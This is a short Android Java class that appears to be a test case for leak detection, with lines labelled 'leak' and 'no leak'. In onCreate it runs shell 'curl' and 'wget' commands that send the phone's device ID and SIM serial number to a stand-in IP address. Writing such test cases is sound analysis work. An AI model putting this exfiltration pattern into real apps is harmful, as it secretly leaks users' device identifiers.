package ways;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.DataOutputStream;

/** By commands, and by code that is not Java. */
public class ShellOut extends Activity {
    static {
        System.loadLibrary("out");
    }

    static native void deliver(String what);

    static native void begin(String where);

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        try {
            Runtime.getRuntime().exec("curl http://203.0.113.34/?i=" + phone.getDeviceId()); // leak
            Runtime.getRuntime().exec("curl http://203.0.113.34/?i=none"); // no leak
            Process shell = new ProcessBuilder("sh").start();
            DataOutputStream in = new DataOutputStream(shell.getOutputStream());
            in.writeBytes("wget http://203.0.113.34/?s=" + phone.getSimSerialNumber() + "\n"); // leak
            in.writeBytes("exit\n"); // no leak
        } catch (Exception e) {
            finish();
        }
    }
}
